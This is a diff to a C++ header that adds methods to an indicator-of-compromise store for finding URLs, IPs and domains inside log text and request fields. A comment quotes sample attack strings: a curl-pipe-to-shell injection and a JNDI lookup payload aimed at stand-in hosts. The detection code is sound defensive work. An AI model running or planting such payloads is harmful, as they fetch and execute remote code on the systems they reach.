@@ -69,6 +69,15 @@ class IocStore {
   // Looks up source.ip, destination.ip, destination.domain, the referrer's host, the URL and
   // the user agent of the event. Replaces *out.
   void MatchEvent(const Event& ev, int64_t now_millis, std::vector<IocMatch>* out) const;
+  // Looks for indicators written inside free text, as an exploit or a log message carries them
+  // ("...;curl http://198.51.100.9/x.sh|sh", "${jndi:ldap://evil.example/a}", "query:
+  // evil.example A"): the URLs (scheme://...) and their hosts, IPv4 addresses and domain names
+  // in `message`, and, with `payloads`, in the request target (decoded), the user agent and the
+  // referrer. Appends to *out what it does not hold yet, with the field the text came from.
+  // At most kMaxEmbeddedText bytes of each text are read.
+  void MatchEmbedded(const Event& ev, bool payloads, int64_t now_millis,
+                     std::vector<IocMatch>* out) const;
+  static constexpr size_t kMaxEmbeddedText = 16384;
 
  private:
   struct IpHash {
@@ -92,6 +101,9 @@ class IocStore {
   };
 
   const Ioc* Live(uint32_t idx, int64_t now_millis) const;
+  // MatchEmbedded for one text.
+  void MatchEmbeddedIn(std::string_view text, Field field, int64_t now_millis,
+                       std::vector<IocMatch>* out) const;
   const Ioc* FindIn(const StringIndex& index, std::string_view key, int64_t now_millis) const;
   // False when no URL indicator has this host (compared lower-cased), whatever the time.
   bool UrlHostMayMatch(std::string_view host) const;
